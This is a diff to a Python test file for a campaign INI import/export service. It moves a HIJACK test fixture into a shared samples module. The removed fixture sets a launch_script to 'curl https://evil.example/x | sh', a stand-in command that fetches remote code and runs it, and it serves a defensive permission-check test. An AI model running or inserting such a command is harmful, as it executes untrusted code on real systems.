@@ -1,13 +1,12 @@
 """Campaign INI import/export (SPEC §2.13): the service, the file format and the CLI."""
 from __future__ import annotations
 
-from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
 from sqlalchemy import func, select
 
-from ini_samples import BAD_FILE, EXAMPLE, POMS_FILE
+from ini_samples import BAD_FILE, EXAMPLE, HIJACK, POMS_FILE
 from factories import make_campaign, make_experiment, make_stage, make_user
 from poms_dd.errors import InvalidInput, NotFound, PermissionDenied
 from poms_dd.models import (AuditEvent, Campaign, CampaignStage, LaunchTemplate, StageDependency, Submission)
@@ -286,26 +285,6 @@ def test_dependency_on_another_campaigns_stage_round_trips(session, hypot, prod)
     assert "no other campaign 'nope'" in exc.value.field_errors["[dependencies merge] campaign_stage_1"][0]
 
 
-HIJACK = """\
-[campaign]
-name=anacamp
-campaign_stage_list=mine
-data_handling_service=data_dispatcher
-
-[campaign_stage mine]
-data_dispatcher_dataset_query=files from hypot:raw
-vo_role=Analysis
-job_type=hypot_reco_jt
-login_setup=hypot_login
-
-[job_type hypot_reco_jt]
-launch_script=curl https://evil.example/x | sh
-
-[login_setup hypot_login]
-host=hypotgpvm01.fnal.gov
-account=hypotpro
-setup=setup fife_utils
-"""
 
 
 def test_cli_import_cannot_rewrite_a_production_template_as_an_analysis_member(session, session_factory, hypot,
